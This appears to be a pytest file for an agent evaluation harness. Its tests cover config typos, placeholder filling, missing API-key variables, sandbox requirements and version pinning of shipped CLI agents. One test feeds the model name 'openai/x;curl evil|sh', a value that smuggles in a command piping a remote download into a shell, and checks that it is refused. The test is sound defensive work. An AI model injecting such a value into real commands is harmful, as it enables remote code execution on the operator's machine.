"""A command-kind harness file is checked when loaded, and its placeholders are filled safely.

Pins: a typo in a harness file (``comand:``) silently ran nothing; a model name pasted into a
shell command could run arbitrary code on a crafted value; shell braces (``${VAR}``, JSON) in a
command were eaten by str.format.
"""

from __future__ import annotations

from pathlib import Path

import pytest
import yaml
from support import REPO

from evalharness.errors import ConfigError, HarnessError
from evalharness.harness.command import SHARED_DIR, CommandHarness, render
from evalharness.harness.registry import load_harness
from evalharness.types import Budget, ModelEndpoint, TaskSpec

COMMAND_FILES = sorted(p for p in (REPO / "harnesses").glob("*.yaml") if yaml.safe_load(p.read_text())["kind"] == "command")
TASK = TaskSpec(instance_id="t", problem_statement="fix it", FAIL_TO_PASS=["tests/test_x.py::test_x"])


class _FolderSandbox:
    """Just enough of a sandbox for the steps before the agent runs: a shared folder on the host."""

    workdir = "/testbed"

    def __init__(self, folder: Path):
        self.folder = folder

    def shared_dir(self, container_path: str) -> Path:
        assert container_path == SHARED_DIR
        return self.folder


def test_an_unknown_knob_is_an_error_naming_it(tmp_path):
    path = tmp_path / "typo.yaml"
    path.write_text("kind: command\ncomand: echo hi\n")
    with pytest.raises(ConfigError, match="comand"):
        load_harness(str(path))


def test_placeholders_are_filled_and_other_braces_kept():
    values = {"model": "openai/gpt-4o", "base_url": "http://127.0.0.1:4000/v1"}
    template = 'x --model {model} --base {base_url} -c \'p={name="r", url="{base_url}"}\' ${HOME} {unknown}'
    assert render(template, values) == ('x --model openai/gpt-4o --base http://127.0.0.1:4000/v1 '
                                        '-c \'p={name="r", url="http://127.0.0.1:4000/v1"}\' ${HOME} {unknown}')


def test_a_model_name_unsafe_for_a_shell_is_refused(tmp_path):
    harness = CommandHarness(name="h", command="agent --model {model}")
    model = ModelEndpoint(name="openai/x;curl evil|sh", api_base="http://127.0.0.1:9/v1")
    with pytest.raises(ConfigError, match="unsafe"):
        harness.run(TASK, _FolderSandbox(tmp_path), model, seed=0, budget=Budget())


def test_a_missing_key_variable_is_a_harness_error_with_a_hint(tmp_path, monkeypatch):
    monkeypatch.delenv("EVALHARNESS_NO_SUCH_KEY", raising=False)
    harness = CommandHarness(name="h", command="agent")
    model = ModelEndpoint(name="openai/x", api_base="http://127.0.0.1:9/v1", api_key_env="EVALHARNESS_NO_SUCH_KEY")
    with pytest.raises(HarnessError, match=r"\$EVALHARNESS_NO_SUCH_KEY is not set"):
        harness.run(TASK, _FolderSandbox(tmp_path), model, seed=0, budget=Budget())


def test_a_sandbox_without_a_shared_folder_is_refused_with_the_reason():
    class Plain:
        workdir = "/testbed"

    with pytest.raises(HarnessError, match="shared folder"):
        CommandHarness(name="h", command="agent").run(TASK, Plain(), ModelEndpoint(name="openai/x"), seed=0,
                                                      budget=Budget())


@pytest.mark.parametrize("path", COMMAND_FILES, ids=[p.stem for p in COMMAND_FILES])
def test_every_shipped_cli_agent_loads_and_pins_its_version(path):
    harness = load_harness(str(path))
    assert harness.name == path.stem and harness.sandbox_options() == {"shared_dirs": [SHARED_DIR]}
    config = harness.config()
    assert config["kind"] == "command" and config["version"]
    assert any(config["version"] in step for step in harness.image_layer())  # the install pins that version


def test_the_shipped_cli_agents_are_the_expected_ones():
    assert {p.stem for p in COMMAND_FILES} >= {"claude-code", "codex", "aider", "mini-swe-agent-cli", "openhands"}
